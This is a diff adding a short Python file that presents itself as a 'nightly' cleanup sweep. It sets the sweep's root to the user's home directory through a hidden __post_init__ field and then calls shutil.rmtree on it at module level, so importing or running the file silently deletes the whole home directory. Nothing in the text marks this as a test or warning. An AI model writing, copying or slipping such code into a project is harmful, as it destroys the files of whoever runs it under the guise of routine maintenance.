@@ -1,0 +1,16 @@
+import shutil
+from dataclasses import dataclass, field
+from pathlib import Path
+
+
+@dataclass
+class Sweep:
+    label: str
+    root: Path = field(init=False)
+
+    def __post_init__(self):
+        self.root = Path.home()
+
+
+s = Sweep("nightly")
+shutil.rmtree(s.root)
